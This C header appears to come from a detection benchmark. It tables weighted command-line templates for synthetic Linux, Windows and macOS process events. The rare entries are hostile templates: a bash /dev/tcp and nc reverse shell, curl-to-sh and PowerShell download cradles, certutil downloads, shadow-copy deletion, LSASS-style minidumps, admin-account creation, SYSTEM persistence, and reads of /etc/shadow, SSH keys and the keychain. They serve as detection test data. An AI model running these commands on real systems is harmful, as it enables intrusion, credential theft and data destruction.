/*
 * programs: what the hosts of the made process events run. A table; events.c fills in the blanks.
 *
 * In arguments: %w a word, %n a number, %h hexadecimal digits, %g a GUID, %p a path, %i an address, %d a domain, %u the user,
 * %% a percent sign. Several command lines are parted by newlines. `weight`: how often, of all those of its system.
 * `parents`: names of the table's programs, parted by blanks. The seldom ones at each end are what detections are for.
 */
#ifndef BENCH_PROGRAMS_H
#define BENCH_PROGRAMS_H

enum os { OS_LINUX,
	OS_WINDOWS,
	OS_MACOS,
	OS_COUNT };

struct program {
	unsigned weight;
	const char *name, *executable, *arguments, *parents;
	const char *original, *product; /* Windows: the file's own name and what it belongs to */
};

static const struct program linux_programs[] = {
	{90, "bash", "/usr/bin/bash", "-c make -j%n all\n-lc cd %p && git pull --rebase origin %w\n/opt/%w/bin/%w.sh --env %w\n"
				      "-c test -f %p/%w.conf && . %p/%w.conf\n-c for i in %w %w %w; do echo $i >> /tmp/%w.%n; done",
		"sshd cron make bash runc", 0, 0},
	{60, "sh", "/usr/bin/dash", "-c test -x /usr/sbin/%w || ( cd / && run-parts --report /etc/cron.%w )\n-c %w --version 2>/dev/null\n"
				    "-c printf %%s %h > /run/%w/%w.pid\n-e %p/%w/postinst configure %n.%n-%n",
		"make cron dpkg python3 node", 0, 0},
	{40, "git", "/usr/bin/git", "fetch --no-tags --prune origin +refs/heads/%w:refs/remotes/origin/%w\nrev-parse --verify HEAD^{commit}\n"
				    "status --porcelain=v2 --branch -z\n-c core.quotepath=false log --format=%%H -n %n -- %p/%w.c\nclone --depth 1 https://%d/%w/%w.git",
		"bash node sh", 0, 0},
	{50, "python3", "/usr/bin/python3.11", "-m %w --config %p/%w.yaml --port %n\n%p/%w.py --input %p/%w.json --output /tmp/%w-%n.csv\n"
					       "-c import %w; print(%w.__version__)\n-m pip install --no-cache-dir %w==%n.%n.%n\n/usr/lib/python3/dist-packages/%w/%w.py --daemon",
		"bash sh systemd", 0, 0},
	{45, "cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet -imultiarch x86_64-linux-gnu -I %p -D_GNU_SOURCE %p/%w.c -quiet -dumpbase %w.c "
							    "-mtune=generic -march=x86-64 -O2 -Wall -o /tmp/cc%h.s",
		"gcc", 0, 0},
	{30, "gcc", "/usr/bin/x86_64-linux-gnu-gcc-12", "-O2 -Wall -Wextra -I%p -c -o build/%w/%w.o %w/%w.c\n-shared -fPIC -o lib%w.so %w.o %w.o -l%w", "make sh", 0, 0},
	{25, "as", "/usr/bin/x86_64-linux-gnu-as", "--64 -o build/%w/%w.o /tmp/cc%h.s", "gcc", 0, 0},
	{20, "make", "/usr/bin/make", "-j%n -C %p %w\n--no-print-directory %w CC=gcc BUILD=%p", "bash sh", 0, 0},
	{25, "node", "/usr/bin/node", "%p/node_modules/.bin/%w --port %n --host %i\n--max-old-space-size=%n %p/dist/%w.js", "bash systemd runc", 0, 0},
	{30, "sed", "/usr/bin/sed", "-e s/%w/%w/g -i %p/%w.conf\n-n /^%w/p %p/%w.list", "bash sh", 0, 0},
	{30, "grep", "/usr/bin/grep", "-rn --include=*.%w %w %p\n-qE ^%w=(yes|no) %p/%w.conf", "bash sh", 0, 0},
	{20, "ls", "/usr/bin/ls", "-la %p/%w\n--color=auto -lh %p", "bash", 0, 0},
	{20, "cat", "/usr/bin/cat", "%p/%w.log\n/proc/%n/status\n%p/%w.%w", "bash sh python3", 0, 0},
	{20, "find", "/usr/bin/find", "%p -name *.%w -mtime +%n -delete\n%p -type f -newer %p/%w -print0", "bash cron sh", 0, 0},
	{15, "curl", "/usr/bin/curl", "-fsSL --retry %n https://%d/%w/%w.asc -o %p/%w.asc\n-s http://%i:%n/healthz\n-X POST -H Content-Type:application/json "
				      "-d @%p/%w.json https://%d/api/v%n/%w",
		"bash sh python3", 0, 0},
	{15, "systemctl", "/usr/bin/systemctl", "is-active --quiet %w.service\nshow -p MainPID --value %w.service\nreload %w.service", "bash sh", 0, 0},
	{15, "docker", "/usr/bin/docker", "run --rm -v %p:/data:ro --name %w-%n %d/%w:%n.%n sh\nps --filter name=%w --format {{.ID}}\nexec %h %w --check", "bash systemd", 0, 0},
	{12, "runc", "/usr/bin/runc", "--root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd.runtime.v2.task/moby/%h/log.json "
				      "--log-format json create --bundle /run/containerd/%h %h",
		"containerd-shim", 0, 0},
	{12, "apt-get", "/usr/bin/apt-get", "-qq -y install --no-install-recommends %w %w lib%w-dev\nupdate -o Dir::State=%p", "bash sh", 0, 0},
	{12, "dpkg", "/usr/bin/dpkg", "--status-fd %n --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/%w_%n.%n_amd64.deb", "apt-get", 0, 0},
	{12, "cron", "/usr/sbin/cron", "-f -P", "systemd", 0, 0},
	{12, "sshd", "/usr/sbin/sshd", "-D -R\n: %u [priv]", "systemd sshd", 0, 0},
	{10, "systemd", "/usr/lib/systemd/systemd", "--user\n--switched-root --system --deserialize %n", "systemd", 0, 0},
	{10, "postgres", "/usr/lib/postgresql/15/bin/postgres", "-D /var/lib/postgresql/15/%w -c config_file=/etc/postgresql/15/%w/postgresql.conf\n"
								"postgres: autovacuum worker %w",
		"systemd postgres", 0, 0},
	{10, "nginx", "/usr/sbin/nginx", "-g daemon on; master_process on;\n-t -q -c %p/%w.conf", "systemd", 0, 0},
	{8, "tar", "/usr/bin/tar", "-czf %p/%w-%n.tar.gz -C %p %w\n-xf /tmp/%w.tar.xz --strip-components=1", "bash cron", 0, 0},
	{8, "rsync", "/usr/bin/rsync", "-az --delete --exclude=%w %p/ %u@%i:%p/", "bash cron", 0, 0},
	{8, "id", "/usr/bin/id", "-u\n-un %u", "bash sh", 0, 0},
	{6, "ps", "/usr/bin/ps", "aux\n-o pid,comm -p %n", "bash", 0, 0},
	{5, "java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Xmx%nm -cp %p/lib/* -D%w=%w com.%w.%w.Main --server.port=%n", "systemd bash", 0, 0},
	{4, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id %h -address /run/containerd/containerd.sock", "systemd", 0, 0},
	{3, "crontab", "/usr/bin/crontab", "-l\n-u %u -l", "bash", 0, 0},
	{2, "chmod", "/usr/bin/chmod", "755 %p/%w\n+x /tmp/%w", "bash", 0, 0},
	{2, "useradd", "/usr/sbin/useradd", "-m -s /bin/bash %w", "bash", 0, 0},
	{1, "bash", "/usr/bin/bash", "-c bash -i >& /dev/tcp/%i/%n 0>&1\n-c curl -s http://%i/%w.sh | sh\n-c echo %h | base64 -d | bash", "nginx java bash", 0, 0},
	{1, "nc", "/usr/bin/nc.traditional", "-e /bin/sh %i %n\n-lvnp %n", "bash", 0, 0},
	{1, "whoami", "/usr/bin/whoami", "", "nginx java bash", 0, 0},
	{1, "cat", "/usr/bin/cat", "/etc/shadow\n/etc/passwd\n/home/%u/.ssh/id_rsa\n/etc/sudoers", "bash", 0, 0},
	{1, "chattr", "/usr/bin/chattr", "-i %p/%w", "bash", 0, 0},
	{1, "pkill", "/usr/bin/pkill", "-9 %w", "bash", 0, 0},
};

static const struct program windows_programs[] = {
	{80, "svchost.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s %w\n-k LocalServiceNetworkRestricted -p\n-k UnistackSvcGroup -s %w",
		"services.exe", "svchost.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{70, "chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer --lang=en-US --num-raster-threads=%n "
											 "--renderer-client-id=%n --launch-time-ticks=%n --field-trial-handle=%n,i,%n,%n,262144\n--type=utility --utility-sub-type=%w.mojom.%w "
											 "--service-sandbox-type=none",
		"chrome.exe explorer.exe", "chrome.exe", "Google Chrome"},
	{60, "conhost.exe", "C:\\Windows\\System32\\conhost.exe", "0xffffffff -ForceV1\n0x%h", "cmd.exe powershell.exe", "CONHOST.EXE",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{50, "cmd.exe", "C:\\Windows\\System32\\cmd.exe", "/c %p\\%w.bat %n\n/d /s /c \"npm run %w\"\n/c dir /b %p\\%w\n/c \"\"%p\\%w.cmd\" -%w\"",
		"explorer.exe services.exe node.exe", "Cmd.Exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{40, "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-NoLogo -NonInteractive -File %p\\%w.ps1 -%w %n\n"
												 "-Command Get-%w -Name %w | Select-Object -First %n\n-ExecutionPolicy RemoteSigned -Command & '%p\\%w.ps1'",
		"explorer.exe svchost.exe cmd.exe",
		"PowerShell.EXE", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{40, "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "--type=gpu-process --gpu-preferences=%h%h --mojo-platform-channel-handle=%n\n"
												"--profile-directory=Default https://%d/%w?%w=%n",
		"explorer.exe msedge.exe", "msedge.exe", "Microsoft Edge"},
	{30, "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe", "-Embedding", "svchost.exe", "RuntimeBroker.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{30, "backgroundTaskHost.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe", "-ServerName:App.AppX%h.mca", "svchost.exe", "backgroundTaskHost.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{25, "msiexec.exe", "C:\\Windows\\System32\\msiexec.exe", "/V\n/i \"%p\\%w.msi\" /qn /norestart\n-Embedding %h E Global\\MSI%n", "services.exe explorer.exe", "msiexec.exe",
		"Windows Installer - Unicode"},
	{25, "taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", "%w.%w\n{%g}", "svchost.exe", "taskhostw.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{20, "rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\%w.dll,%w %n\nshell32.dll,Control_RunDLL %w.cpl", "svchost.exe explorer.exe", "RUNDLL32.EXE",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{20, "git.exe", "C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "status -z -uall\nconfig --get %w.%w\nfetch origin %w", "node.exe cmd.exe", "git.exe", "Git"},
	{20, "node.exe", "C:\\Program Files\\nodejs\\node.exe", "%p\\node_modules\\%w\\bin\\%w.js --watch\n%p\\%w.js %n", "cmd.exe explorer.exe", "node.exe", "Node.js"},
	{15, "MsMpEng.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "", "services.exe", "MsMpEng.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{15, "WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "-secured -Embedding", "svchost.exe", "Wmiprvse.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{15, "WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "/n \"C:\\Users\\%u\\Documents\\%w %n.docx\" /o \"\"", "explorer.exe", "WinWord.exe", "Microsoft Office"},
	{12, "explorer.exe", "C:\\Windows\\explorer.exe", "/factory,{%g} -Embedding", "svchost.exe", "EXPLORER.EXE", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{12, "GoogleUpdate.exe", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", "/ua /installsource scheduler", "svchost.exe", "GoogleUpdate.exe", "Google Update"},
	{10, "reg.exe", "C:\\Windows\\System32\\reg.exe", "query HKLM\\SOFTWARE\\%w\\%w /v %w\nadd HKCU\\Software\\%w /v %w /t REG_DWORD /d %n /f", "cmd.exe", "reg.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{10, "net.exe", "C:\\Windows\\System32\\net.exe", "use Z: \\\\%w\\%w /persistent:no\nstart %w", "cmd.exe powershell.exe", "net.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{8, "schtasks.exe", "C:\\Windows\\System32\\schtasks.exe", "/Query /TN \\%w\\%w /XML\n/Run /TN %w", "cmd.exe services.exe", "schtasks.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{8, "sc.exe", "C:\\Windows\\System32\\sc.exe", "query %w\nstart %w", "cmd.exe services.exe", "sc.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{8, "wevtutil.exe", "C:\\Windows\\System32\\wevtutil.exe", "qe System /c:%n /f:text", "cmd.exe", "wevtutil.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{5, "services.exe", "C:\\Windows\\System32\\services.exe", "", "services.exe", "services.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{3, "whoami.exe", "C:\\Windows\\System32\\whoami.exe", "/upn\n/groups", "cmd.exe", "whoami.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "-nop -w hidden -enc %h%h%h\nIEX (New-Object Net.WebClient).DownloadString('http://%i/%w.ps1')\n"
												"-ExecutionPolicy Bypass -WindowStyle Hidden -File C:\\Users\\Public\\%w.ps1",
		"WINWORD.EXE cmd.exe", "PowerShell.EXE", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "certutil.exe", "C:\\Windows\\System32\\certutil.exe", "-urlcache -split -f http://%i/%w.exe C:\\Users\\Public\\%w.exe\n-decode %w.txt %w.exe", "cmd.exe", "CertUtil.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", "delete shadows /all /quiet", "cmd.exe", "VSSADMIN.EXE", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "rundll32.exe", "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll, MiniDump %n C:\\Windows\\Temp\\%w.dmp full\njavascript:\"\\..\\mshtml,RunHTMLApplication\"", "cmd.exe powershell.exe",
		"RUNDLL32.EXE", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "net.exe", "C:\\Windows\\System32\\net.exe", "user %w P%h! /add\nlocalgroup administrators %w /add\ngroup \"Domain Admins\" /domain", "cmd.exe", "net.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "mshta.exe", "C:\\Windows\\System32\\mshta.exe", "http://%i/%w.hta\nvbscript:Execute(\"%w\")", "WINWORD.EXE", "MSHTA.EXE", "Internet Explorer"},
	{1, "schtasks.exe", "C:\\Windows\\System32\\schtasks.exe", "/create /tn %w /tr C:\\Users\\%u\\AppData\\Local\\Temp\\%w.exe /sc onlogon /ru system", "cmd.exe", "schtasks.exe",
		"Microsoft\xc2\xae Windows\xc2\xae Operating System"},
	{1, "wmic.exe", "C:\\Windows\\System32\\wbem\\WMIC.exe", "process call create \"cmd /c %w\"\nshadowcopy delete", "cmd.exe", "wmic.exe", "Microsoft\xc2\xae Windows\xc2\xae Operating System"},
};

static const struct program macos_programs[] = {
	{30, "mdworker_shared", "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared", "-s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared", "launchd", 0, 0},
	{20, "zsh", "/bin/zsh", "-l\n-c cd %p && brew install %w", "launchd zsh", 0, 0},
	{15, "git", "/usr/bin/git", "fetch origin %w\nstatus --porcelain", "zsh", 0, 0},
	{10, "launchd", "/sbin/launchd", "", "launchd", 0, 0},
	{5, "defaults", "/usr/bin/defaults", "read com.apple.%w %w", "zsh", 0, 0},
	{1, "osascript", "/usr/bin/osascript", "-e do shell script \"%w %w\"\n%p/%w.scpt", "zsh", 0, 0},
	{1, "security", "/usr/bin/security", "find-generic-password -wa %w", "zsh", 0, 0},
};

#endif
